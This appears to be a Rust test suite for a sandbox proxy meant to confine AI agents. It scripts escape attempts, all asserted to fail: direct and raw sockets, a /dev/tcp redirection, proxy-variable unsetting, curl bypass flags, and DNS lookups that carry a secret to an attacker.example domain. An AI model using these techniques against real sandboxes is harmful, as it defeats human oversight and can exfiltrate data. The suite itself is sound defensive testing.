//! No way out beside ours: what an agent tries when it ignores the proxy.
use crate::support::{Identity, Limit, for_each_identity};
use crate::world::{Scripts, codes, decisions, host, says, world};
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

/// Far less than any timeout of a client: a denial is told, never waited for.
const AT_ONCE: Limit = Limit::HANG;

#[test]
fn a_direct_connection_to_an_address_fails_at_once_with_every_protocol() {
    for_each_identity(|lab| {
        let name = host("pass");
        let output = world()
            .fence(lab, &[&format!("{name}:{{tls}}")])
            .within(AT_ONCE)
            .python(
                lab,
                r#"
def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(3)
        return s.connect_ex((address, port))
def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x" * 20, (address, port))
for port in (443, 80, 22, 53, 853):
    print(outcome(lambda: tcp("192.0.2.1", port)) in (101, 113))
print(outcome(lambda: tcp("2001:db8::1", 443)) in (101, 113, 99, 97, "OSError"))
for port in (443, 53, 123, 5353):
    print(outcome(lambda: udp("192.0.2.1", port)))
print(outcome(lambda: udp("224.0.0.251", 5353)))
print(outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
print(outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)))
print(outcome(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)))
print(outcome(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)))
"#,
            );
        let lines: Vec<&str> = output.said().lines().collect();
        assert_eq!(lines[..6], ["True"; 6], "no route: {output:?}");
        assert!(
            lines[6..11].iter().all(|line| *line == "OSError"),
            "no datagram leaves: {output:?}"
        );
        assert!(
            lines[11..]
                .iter()
                .all(|line| *line == "PermissionError" || *line == "OSError"),
            "raw, ping, packet and netfilter sockets: {output:?}"
        );
        assert_eq!(lines.len(), 15, "{output:?}");
        let control = world()
            .fence(lab, &[&format!("{name}:{{tls}}")])
            .shell(&format!("curl -sS --cacert $LAB_CA https://{name}:{{tls}}/"));
        says(&control, "hello from the lab");
    });
}

#[test]
fn shell_redirections_and_the_c_library_find_no_other_way() {
    for_each_identity(|lab| {
        let name = host("pass");
        let listener = TcpListener::bind("127.0.0.1:0").expect("loopback");
        let port = listener.local_addr().expect("is bound").port();
        let output = world().fence(lab, &[&format!("{name}:{{tls}}")]).run([
            "bash",
            "-c",
            &format!(
                "(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null; echo $?; getent hosts denied.lab.test >/dev/null; echo $?; \
                 getent hosts x.invalid; echo $?; getent ahosts {name} | head -1 | cut -d. -f1,2"
            ),
        ]);
        let lines: Vec<&str> = output.said().lines().collect();
        assert_eq!(lines[..3], ["1", "2", "2"], "{output:?}");
        assert!(
            ["198.18", "198.19"].contains(&lines[3]),
            "control: an allowed name: {output:?}"
        );
        assert!(
            !world().looked_up("denied.lab.test"),
            "a denied name is asked of nobody"
        );
        assert!(
            !codes(&output, "denied.lab.test").is_empty(),
            "and the denial is recorded: {output:?}"
        );
    });
}

#[test]
fn without_the_proxy_variables_the_same_rules_hold() {
    for_each_identity(|lab| {
        let (yes, no) = (host("pass"), host("denied"));
        let output = world().fence(lab, &[&format!("{yes}:{{tls}}")]).within(AT_ONCE).shell(&format!(
            "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy no_proxy NO_PROXY\n\
             curl -sS --cacert $LAB_CA https://{yes}:{{tls}}/\n\
             curl -s -m 20 --cacert $LAB_CA https://{no}:{{tls}}/; echo $?\n\
             curl -s -m 20 --cacert $LAB_CA --resolve {no}:{{tls}}:198.18.77.77 https://{no}:{{tls}}/ >/dev/null; echo $(($? != 0))\n\
             curl -s -m 20 --cacert $LAB_CA --resolve {yes}:{{tls}}:127.0.0.1 https://{yes}:{{tls}}/ >/dev/null; echo $?"
        ));
        let lines: Vec<&str> = output.said().lines().collect();
        assert_eq!(lines[0], "hello from the lab", "control: {output:?}");
        assert_eq!(lines[1], "6", "a denied name is not resolved: {output:?}");
        assert_eq!(
            lines[2], "1",
            "an address that stands for no name leads nowhere: {output:?}"
        );
        assert_eq!(lines.len(), 4, "{output:?}");
        assert!(world().seen(&no).is_empty(), "{output:?}");
        assert_eq!(
            world().seen(&yes).len(),
            1 + usize::from(lines[3] == "0"),
            "{output:?}"
        );
        assert!(!codes(&output, &no).is_empty(), "{output:?}");
    });
}

#[test]
fn a_name_server_of_the_agents_own_choice_is_never_asked() {
    for_each_identity(|lab| {
        let spy = UdpSocket::bind("127.0.0.1:0").expect("loopback");
        spy.set_read_timeout(Some(Duration::from_millis(200)))
            .expect("can be set");
        let port = spy.local_addr().expect("is bound").port();
        let name = host("pass");
        let script = format!(
            r#"
def udp(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"\0" * 30, to)
        return s.recv(10)
for to in (("192.0.2.53", 53), ("127.0.0.1", {port}), ("127.0.0.1", {{dns}})):
    print(outcome(lambda: udp(to)))
print(status(ask(b"CONNECT dns.example:443 HTTP/1.1\r\nHost: dns.example:443\r\n\r\n")))
print(status(ask(b"CONNECT dns.example:853 HTTP/1.1\r\nHost: dns.example:853\r\n\r\n")))
print(look_up("secret-in-a-label.attacker.example")[0] != 0)
print(look_up("secret-in-a-label.attacker.example", 16)[0] != 0)
print(look_up("secret-in-a-label.attacker.example", 1, True)[0] != 0)
print(look_up("data." + {name:?}, 1)[0] != 0)
print(look_up({name:?})[1][0].startswith("198.1"))
"#
        )
        .replace("{dns}", &world().dns.to_string());
        let output = world()
            .fence(lab, &[&format!("{name}:{{tls}}")])
            .within(AT_ONCE)
            .python(lab, &script);
        let lines: Vec<&str> = output.said().lines().collect();
        assert!(
            !lines[..3].iter().any(|line| line.starts_with("b'")),
            "{output:?}"
        );
        assert_eq!(
            lines[3..],
            ["403", "403", "True", "True", "True", "True", "True"],
            "{output:?}"
        );
        assert!(
            spy.recv(&mut [0; 64]).is_err(),
            "nothing reached a socket of the host"
        );
        for name in ["dns.example", "secret-in-a-label.attacker.example"] {
            assert!(!world().looked_up(name), "{name} left the sandbox");
        }
    });
}

#[test]
fn names_exempt_from_the_proxy_are_not_a_way_around_it() {
    for_each_identity(|lab| {
        let listener = TcpListener::bind("127.0.0.1:0").expect("loopback");
        let port = listener.local_addr().expect("is bound").port();
        listener.set_nonblocking(true).expect("can be set");
        let six = TcpListener::bind("[::1]:0").ok();
        let port6 = six
            .as_ref()
            .map_or(9, |six| six.local_addr().expect("is bound").port());
        let yes = host("pass");
        let output = world().fence(lab, &[&format!("{yes}:{{tls}}")]).within(AT_ONCE).shell(&format!(
            "for url in http://localhost:{port}/ http://127.0.0.1:{port}/ http://[::1]:{port6}/ http://printer.local/; do\n\
             curl -sf -m 20 -o /dev/null $url; echo $?; done\n\
             for url in http://localhost:{port}/ http://127.0.0.1:{port}/ http://127.1:{port}/ http://2130706433:{port}/; do\n\
             curl -s -m 20 --noproxy '' -x http://127.0.0.1:3128 -o /dev/null -w '%{{http_code}}\\n' $url; done\n\
             NO_PROXY='*' curl -sS --cacert $LAB_CA https://{yes}:{{tls}}/"
        ));
        let lines: Vec<&str> = output.said().lines().collect();
        assert!(lines[..4].iter().all(|line| *line != "0"), "{output:?}");
        assert!(
            lines[4..8].iter().all(|line| ["403", "400"].contains(line)),
            "{output:?}"
        );
        assert_eq!(lines[8], "hello from the lab", "control: {output:?}");
        assert!(listener.accept().is_err(), "the host's loopback was reached");
    });
}

#[test]
fn an_empty_list_denies_everything_and_says_so() {
    for_each_identity(|lab| {
        let name = host("denied");
        let output = world().fence(lab, &[]).within(AT_ONCE).shell(&format!(
            "curl -s -o /dev/null -w '%{{http_connect}}\\n' --cacert $LAB_CA https://{name}:{{tls}}/\n\
             curl -s -o /dev/null -w '%{{http_code}}\\n' http://{name}:{{plain}}/\n\
             curl -s -x socks5h://127.0.0.1:1080 --cacert $LAB_CA https://{name}:{{tls}}/; echo $?\n\
             curl -s -m 20 --noproxy '*' --cacert $LAB_CA https://{name}:{{tls}}/; echo $?\n"
        ));
        says(&output, "403\n403\n97\n6");
        assert!(
            world().seen(&name).is_empty() && !world().looked_up(&name),
            "{output:?}"
        );
        assert!(decisions(&output, &name, "allowed").is_empty(), "{output:?}");
        assert!(codes(&output, &name).len() >= 3, "each face tells: {output:?}");
    });
}

#[test]
fn with_no_network_there_is_no_face_at_all() {
    for_each_identity(|lab| {
        let name = host("pass");
        for mode in ["none", "offline"] {
            let output = world()
                .fence(lab, &[&format!("{name}:{{tls}}")])
                .flags(["--net", mode])
                .python(
                    lab,
                    &format!(
                        r#"
for port in (3128, 1080, 53, {{tls}}):
    with socket.socket() as s:
        s.settimeout(3)
        print(s.connect_ex(("127.0.0.1", port)))
print(outcome(lambda: socket.getaddrinfo({name:?}, 443)))
print([v for v in os.environ if "proxy" in v.lower()])
"#
                    ),
                );
            says(&output, "111\n111\n111\n111\ngaierror\n[]");
        }
        assert!(!world().looked_up(&name));
    });
}

#[test]
fn a_run_cannot_reach_the_faces_of_another_run() {
    for_each_identity(|lab| {
        lab.share();
        let name = host("pass");
        // The faces live in a namespace of the run: on the host nothing listens for it.
        let fence = world().fence(lab, &[&format!("{name}:{{tls}}")]);
        let mut other =
            crate::support::Background::start(&mut fence.command(["sh", "-c", "echo up; sleep 30"]));
        assert_eq!(other.line(), "up");
        let output = world().fence(lab, &[]).shell(&format!(
            "curl -s -o /dev/null -w '%{{http_connect}}\\n' --cacert $LAB_CA https://{name}:{{tls}}/; true"
        ));
        says(&output, "403");
        assert!(world().seen(&name).is_empty());
        assert!(other.is_alive(), "control: the other run was there");
        if lab.identity == Identity::Root {
            for port in ["3128", "1080"] {
                let address = format!("127.0.0.1:{port}").parse().expect("an address");
                let answer = std::net::TcpStream::connect_timeout(&address, Duration::from_secs(1));
                assert!(answer.is_err(), "port {port} of the run is open on the host");
            }
        }
    });
}
